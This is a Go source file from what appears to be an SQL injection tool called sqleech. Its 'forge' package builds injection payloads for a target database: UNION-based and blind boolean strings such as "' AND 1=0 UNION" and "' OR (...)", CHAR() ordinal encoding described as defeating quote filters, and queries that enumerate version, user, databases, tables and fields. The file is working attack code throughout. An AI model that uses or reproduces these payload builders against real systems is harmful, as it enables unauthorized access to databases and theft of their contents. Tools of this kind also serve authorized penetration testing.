// Package forge builds SQL fragments for a chosen dialect and wraps them
// into the surrounding grammar dictated by an injection Context, so the
// payload survives parsing by the target database. The base
// implementation defines a generic MySQL-like syntax; per-dialect forges
// override exactly the primitives whose syntax differs.
package forge

import (
	"errors"
	"fmt"
	"strconv"
	"strings"

	"github.com/0x6d61/sqleech/internal/sqlictx"
)

// ErrNotImplemented is returned by a dialect-mandatory method that a
// dialect forge has not overridden.
var ErrNotImplemented = errors.New("forge: not implemented for this dialect")

// Forge emits SQL fragments and wraps them into the syntactic position
// dictated by the injection Context.
type Forge interface {
	Name() string

	// Quoting / wrapping.
	WrapString(s string) string
	WrapField(v string) string
	WrapSQL(sql string) string
	WrapBisec(cdt string) string

	// Primitives.
	StringLen(s string) string
	GetChar(s string, pos int) string
	ConcatStr(parts ...string) string
	ASCII(s string) string
	Count(s string) string
	Take(records string, i int) string
	SelectAll(table, db string) string

	// Condition / in-band assembly.
	ForgeCdt(val, cmp string) string
	ForgeSecondQuery(inner string) string

	// Metadata (dialect-mandatory).
	GetVersion() string
	GetUser() string
	GetCurrentDatabase() string
	GetDatabases() (string, error)
	GetTables(db string) (string, error)
	GetFields(table, db string) (string, error)

	// Count/take-based wrappers over the above metadata queries.
	CountDatabases() (string, error)
	TakeDatabase(i int) (string, error)
	CountTables(db string) (string, error)
	TakeTable(db string, i int) (string, error)
	CountFields(table, db string) (string, error)
	TakeField(table, db string, i int) (string, error)
}

// Base implements the generic MySQL-like default syntax. Dialects embed
// Base and override only the primitives whose syntax actually differs.
type Base struct {
	Ctx *sqlictx.Context
}

// NewBase constructs a Base forge bound to ctx.
func NewBase(ctx *sqlictx.Context) Base {
	return Base{Ctx: ctx}
}

func (b Base) Name() string { return "generic" }

// WrapString returns either 'quoted' using the context's string
// delimiter, or, when EncodeStr is set, the portable CHAR(c1,c2,...)
// ordinal form that defeats naive quote filters.
func (b Base) WrapString(s string) string {
	if b.Ctx != nil && b.Ctx.EncodeStr {
		return encodeCharOrdinals(s)
	}
	delim := byte('\'')
	if b.Ctx != nil && b.Ctx.StringDelim != 0 {
		delim = b.Ctx.StringDelim
	}
	return string(delim) + s + string(delim)
}

func encodeCharOrdinals(s string) string {
	if s == "" {
		return "CHAR()"
	}
	parts := make([]string, 0, len(s))
	for _, r := range []byte(s) {
		parts = append(parts, strconv.Itoa(int(r)))
	}
	return "CHAR(" + strings.Join(parts, ",") + ")"
}

// WrapField quotes v iff the context's FieldType is STRING; otherwise it
// is emitted bare.
func (b Base) WrapField(v string) string {
	if b.Ctx != nil && b.Ctx.FieldType == sqlictx.FieldString {
		return b.WrapString(v)
	}
	return v
}

// WrapSQL is the central payload assembler: four cases keyed on
// (Method, FieldType, Truncate), per the injection context's data model.
func (b Base) WrapSQL(sql string) string {
	ctx := b.Ctx
	def := b.WrapField(ctx.Default)

	switch {
	case ctx.Method == sqlictx.MethodInband && ctx.FieldType == sqlictx.FieldString:
		core := fmt.Sprintf("' AND 1=0 UNION %s", sql)
		if ctx.Comment != "" {
			core += " " + ctx.Comment
		}
		return core
	case ctx.Method == sqlictx.MethodInband && ctx.FieldType == sqlictx.FieldInt:
		core := fmt.Sprintf("%s AND 1=0 UNION %s", ctx.Default, sql)
		if ctx.Comment != "" {
			core += " " + ctx.Comment
		}
		return core
	case ctx.Method == sqlictx.MethodBlind && ctx.FieldType == sqlictx.FieldString && ctx.Truncate:
		return fmt.Sprintf("' OR (%s=%s) %s", sql, def, ctx.Comment)
	case ctx.Method == sqlictx.MethodBlind && ctx.FieldType == sqlictx.FieldInt && ctx.Truncate:
		return fmt.Sprintf("%s OR (%s)=%s %s", ctx.Default, sql, def, ctx.Comment)
	case ctx.Method == sqlictx.MethodBlind && ctx.FieldType == sqlictx.FieldString && !ctx.Truncate:
		return fmt.Sprintf("' OR (%s=%s) AND '1'='1", sql, def)
	default: // BLIND / INT / no-truncate
		return fmt.Sprintf("%s OR (%s)=%s ", ctx.Default, sql, def)
	}
}

// WrapBisec has no generic default: its SQL must evaluate to a definite
// success when cdt is true and a definite failure (typically a
// division-by-zero branch) when false, and that shape is DBMS-specific.
// Every dialect MUST override this.
func (b Base) WrapBisec(cdt string) string {
	return ""
}

// StringLen returns a MySQL-like LENGTH(s) expression.
func (b Base) StringLen(s string) string { return fmt.Sprintf("LENGTH(%s)", s) }

// GetChar returns a MySQL-like 1-based SUBSTRING(s,pos,1) expression.
func (b Base) GetChar(s string, pos int) string {
	return fmt.Sprintf("SUBSTRING(%s,%d,1)", s, pos)
}

// ConcatStr returns a MySQL-like CONCAT(...) expression.
func (b Base) ConcatStr(parts ...string) string {
	return fmt.Sprintf("CONCAT(%s)", strings.Join(parts, ","))
}

// ASCII returns a MySQL-like ASCII(s) expression.
func (b Base) ASCII(s string) string { return fmt.Sprintf("ASCII(%s)", s) }

// Count returns a MySQL-like COUNT(*) over the given subquery/table.
func (b Base) Count(s string) string { return fmt.Sprintf("(SELECT COUNT(*) FROM (%s) t)", s) }

// Take returns the 0-based i-th record via LIMIT i,1.
func (b Base) Take(records string, i int) string {
	return fmt.Sprintf("(%s LIMIT %d,1)", records, i)
}

// SelectAll returns a SELECT * FROM db.table fragment.
func (b Base) SelectAll(table, db string) string {
	if db == "" {
		return fmt.Sprintf("SELECT * FROM %s", table)
	}
	return fmt.Sprintf("SELECT * FROM %s.%s", db, table)
}

// ForgeCdt returns the bisection predicate "(val) < cmp".
func (b Base) ForgeCdt(val, cmp string) string {
	return fmt.Sprintf("(%s) < %s", val, cmp)
}

// ForgeSecondQuery builds "SELECT c0, c1, ..." where each column matches
// UnionFields[i]'s type (a zero literal) except UnionTarget, which
// becomes CONCAT(tag, inner, tag) so the caller can locate the
// tag-framed payload in the response body.
func (b Base) ForgeSecondQuery(inner string) string {
	ctx := b.Ctx
	cols := make([]string, len(ctx.UnionFields))
	for i, typ := range ctx.UnionFields {
		if i == ctx.UnionTarget {
			cols[i] = b.ConcatStr(b.WrapString(ctx.UnionTag), "("+inner+")", b.WrapString(ctx.UnionTag))
			continue
		}
		switch typ {
		case 's':
			cols[i] = b.WrapString("")
		default: // 'i' or anything else
			cols[i] = "0"
		}
	}
	return "SELECT " + strings.Join(cols, ",")
}

func (b Base) GetVersion() string         { return "@@version" }
func (b Base) GetUser() string            { return "CURRENT_USER()" }
func (b Base) GetCurrentDatabase() string { return "DATABASE()" }

func (b Base) GetDatabases() (string, error) {
	return "", ErrNotImplemented
}

func (b Base) GetTables(db string) (string, error) {
	return "", ErrNotImplemented
}

func (b Base) GetFields(table, db string) (string, error) {
	return "", ErrNotImplemented
}

func (b Base) CountDatabases() (string, error) {
	q, err := b.GetDatabases()
	if err != nil {
		return "", err
	}
	return b.Count(q), nil
}

func (b Base) TakeDatabase(i int) (string, error) {
	q, err := b.GetDatabases()
	if err != nil {
		return "", err
	}
	return b.Take(q, i), nil
}

func (b Base) CountTables(db string) (string, error) {
	q, err := b.GetTables(db)
	if err != nil {
		return "", err
	}
	return b.Count(q), nil
}

func (b Base) TakeTable(db string, i int) (string, error) {
	q, err := b.GetTables(db)
	if err != nil {
		return "", err
	}
	return b.Take(q, i), nil
}

func (b Base) CountFields(table, db string) (string, error) {
	q, err := b.GetFields(table, db)
	if err != nil {
		return "", err
	}
	return b.Count(q), nil
}

func (b Base) TakeField(table, db string, i int) (string, error) {
	q, err := b.GetFields(table, db)
	if err != nil {
		return "", err
	}
	return b.Take(q, i), nil
}
